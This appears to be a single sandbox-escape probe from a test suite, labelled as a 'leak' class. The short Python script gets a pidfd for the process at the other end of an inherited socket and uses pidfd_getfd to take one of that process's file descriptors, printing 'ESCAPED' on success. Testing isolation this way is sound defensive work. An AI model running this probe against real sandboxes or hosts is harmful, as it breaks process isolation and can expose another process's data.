# class: leak
# Asks the wire for a handle of the process at its other end, and takes a descriptor of it.
import ctypes,os,socket,struct
l=ctypes.CDLL(None,use_errno=True); s=socket.socket(fileno=os.dup(3)); f=struct.unpack("i",s.getsockopt(1,77,4))[0]
r=l.syscall(438,f,0,0); print("ESCAPED %d"%r if r>=0 else "no errno %d"%ctypes.get_errno())
